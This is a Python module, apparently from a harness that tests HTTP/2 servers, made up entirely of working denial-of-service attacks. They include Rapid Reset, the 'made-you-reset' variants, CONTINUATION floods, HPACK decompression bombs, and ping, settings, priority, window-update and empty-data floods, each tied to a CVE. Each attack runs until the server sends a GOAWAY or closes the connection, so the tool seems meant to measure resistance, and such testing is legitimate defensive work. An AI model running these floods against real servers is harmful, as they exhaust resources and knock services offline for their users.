"""Known attacks on HTTP/2: floods of frames that cost the receiver more than the sender."""

import struct
import time

from attacking import ATTACKS, attack
from raw_http2 import *  # noqa: F403  (the names of the protocol)
from raw_http2 import Connection

SECONDS_MAX = 20
FRAMES_MAX = 20_000


def verdict(connection, send, frames_max=FRAMES_MAX, wait_seconds=SECONDS_MAX):
    """Sends until stopped, and says by what."""
    deadline = time.monotonic() + SECONDS_MAX
    for number in range(frames_max):
        if connection.is_closed or time.monotonic() > deadline:
            break
        send(number)
        if number % 50 == 49:
            frame = connection.until(lambda frame: frame.kind == GOAWAY and frame.code != NO_ERROR, 0.001)
            if frame is not None:
                return f"GOAWAY {frame.code}"
    frame = connection.until(lambda frame: frame.kind == GOAWAY and frame.code != NO_ERROR, wait_seconds)
    if frame is not None:
        return f"GOAWAY {frame.code}"
    return "closed" if connection.is_closed else "not stopped"


@attack
def rapid_reset(target):
    """CVE-2023-44487."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.get(2 * number + 1)
            connection.frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", CANCEL))
        return verdict(connection, send)


def _provoke(provocation):
    """CVE-2025-8671: the client breaks a rule so that the server resets, and no reset of the client is counted."""
    def run(target):
        with Connection(target).greeted() as connection:
            def send(number):
                provocation(connection, target, 2 * number + 1)
            return verdict(connection, send)
    return run


def _empty_window_update(connection, target, stream):
    connection.headers(stream, target.request("POST"), END_HEADERS)
    connection.frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def _window_overflow(connection, target, stream):
    connection.headers(stream, target.request("POST"), END_HEADERS)
    connection.frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))


def _length_mismatch(connection, target, stream):
    connection.headers(stream, target.request("POST", extra=[("content-length", "1")]), END_HEADERS)
    connection.frame(DATA, END_STREAM, stream, b"four")


def _forbidden_field(connection, target, stream):
    connection.headers(stream, target.request(extra=[("connection", "close")]))


def _wrong_priority(connection, target, stream):
    connection.get(stream)
    connection.frame(PRIORITY, 0, stream, b"\0\0\0\0")


def _priority_of_itself(connection, target, stream):
    connection.get(stream)
    connection.frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 16))


def _data_after_the_end(connection, target, stream):
    connection.get(stream)
    connection.frame(DATA, END_STREAM, stream, b"late")


def _headers_after_the_end(connection, target, stream):
    connection.get(stream)
    connection.headers(stream, [("x-late", "a")])


def _trailers_without_end(connection, target, stream):
    connection.headers(stream, target.request("POST"), END_HEADERS)
    connection.headers(stream, [("x-trailer", "a")], END_HEADERS)


def _beyond_the_window(connection, target, stream):
    connection.headers(stream, target.request("POST"), END_HEADERS)
    for _ in range(5):
        connection.frame(DATA, 0, stream, b"x" * 16384)


def _too_many_fields(connection, target, stream):
    connection.headers(stream, target.request(extra=[("x", "a")] * 120))


def _other_host(connection, target, stream):
    connection.headers(stream, target.request(extra=[("host", "elsewhere.example")]))


def _underscore(connection, target, stream):
    connection.headers(stream, target.request(extra=[("x_real_ip", "a")]))


for _name, _provocation in [
        ("made-you-reset-window-0", _empty_window_update), ("made-you-reset-overflow", _window_overflow),
        ("made-you-reset-length", _length_mismatch), ("made-you-reset-field", _forbidden_field),
        ("made-you-reset-priority", _wrong_priority), ("made-you-reset-itself", _priority_of_itself),
        ("made-you-reset-late-data", _data_after_the_end), ("made-you-reset-late-headers", _headers_after_the_end),
        ("made-you-reset-trailers", _trailers_without_end), ("made-you-reset-flow", _beyond_the_window),
        ("made-you-reset-431", _too_many_fields), ("made-you-reset-host", _other_host),
        ("made-you-reset-underscore", _underscore)]:
    ATTACKS[_name] = _provoke(_provocation)


@attack
def continuation_flood(target):
    """CVE-2024-27316 and its like: a block without an end."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request(), END_STREAM)
        return verdict(connection, lambda number: connection.frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100))


def _bomb(block):
    """CVE-2026-47774: a few bytes stand for many fields, and windows of nothing keep every stream."""
    def run(target):
        with Connection(target, [(INITIAL_WINDOW_SIZE, 0)]).greeted() as connection:
            plain = connection.block(target.request())
            # A value of 3 KiB in the dynamic table, then one byte each time for all of it.
            connection.frame(HEADERS, END_STREAM | END_HEADERS, 1, plain + b"\x40\x03bom\x7f\x81\x17" + b"x" * 3072)

            def send(number):
                connection.frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 3, connection.block(
                    target.request()) + block)
            return verdict(connection, send, frames_max=500)
    return run


ATTACKS["bomb-of-indexed-fields"] = _bomb(b"\xbe" * 4000)
ATTACKS["bomb-of-cookie-crumbs"] = _bomb(b"\x60\x01c" + b"\xbe" * 4000)


@attack
def window_of_nothing(target):
    """Streams whose answers cannot leave."""
    with Connection(target, [(INITIAL_WINDOW_SIZE, 0)]).greeted() as connection:
        return verdict(connection, lambda number: connection.get(2 * number + 1), frames_max=2000)


@attack
def ping_flood(target):
    """CVE-2019-9512."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(PING, 0, 0, b"12345678"))


@attack
def settings_flood(target):
    """CVE-2019-9515."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.settings([(MAX_CONCURRENT_STREAMS, number)]))


@attack
def priority_flood(target):
    """CVE-2019-9513."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(PRIORITY, 0, 2 * number + 1, b"\0\0\0\0\x10"))


@attack
def window_update_flood(target):
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)
        return verdict(connection, lambda number: connection.frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack
def empty_data_flood(target):
    """CVE-2019-9518."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)
        return verdict(connection, lambda number: connection.frame(DATA, 0, 1, b""))


@attack
def tiny_data_flood(target):
    """CVE-2019-9511."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)

        def send(number):
            connection.frame(DATA, 0, 1, b"x")
        return verdict(connection, send)


@attack
def empty_headers_flood(target):
    """CVE-2019-9516: fields without a name or a value."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1,
                             connection.block(target.request()) + b"\x00\x00\x00" * 50)
        return verdict(connection, send, frames_max=2000)


@attack
def streams_without_end(target):
    """More streams than are allowed, again and again."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.headers(2 * number + 1, target.request("POST"), END_HEADERS)
        return verdict(connection, send, frames_max=3000)


@attack
def data_dribble(target):
    """CVE-2019-9511: windows that are opened byte by byte."""
    with Connection(target, [(INITIAL_WINDOW_SIZE, 0)]).greeted() as connection:
        for stream in range(1, 100, 2):
            connection.get(stream, path="/openapi.json")
        return verdict(
            connection, lambda number: connection.frame(WINDOW_UPDATE, 0, 2 * (number % 50) + 1, struct.pack(">I", 1)))


@attack
def window_update_flood_on_streams(target):
    with Connection(target).greeted() as connection:
        for stream in range(1, 100, 2):
            connection.headers(stream, target.request("POST"), END_HEADERS)
        return verdict(
            connection, lambda number: connection.frame(WINDOW_UPDATE, 0, 2 * (number % 50) + 1, struct.pack(">I", 1)))


@attack
def unknown_frame_flood(target):
    """Types that mean nothing are skipped (RFC 9113, section 5.5)."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(0x0A + number % 0xF0, 0xFF, number, b"x" * 100))


@attack
def late_data_flood(target):
    """DATA of a stream that is over."""
    with Connection(target).greeted() as connection:
        connection.headers(1, target.request("POST"), END_HEADERS)
        connection.frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
        return verdict(connection, lambda number: connection.frame(DATA, 0, 1, b"x" * 1000))


@attack
def settings_acknowledgement_flood(target):
    """Acknowledgements of nothing."""
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(SETTINGS, ACK))


@attack
def ping_acknowledgement_flood(target):
    with Connection(target).greeted() as connection:
        return verdict(connection, lambda number: connection.frame(PING, ACK, 0, b"12345678"))


@attack
def table_size_flood(target):
    """Blocks that do little but resize the table of fields."""
    with Connection(target).greeted() as connection:
        def send(number):
            connection.frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, b"\x20\x3f\xe1\x1f" * 4000
                             + connection.block(target.request()))
        return verdict(connection, send, frames_max=2000)
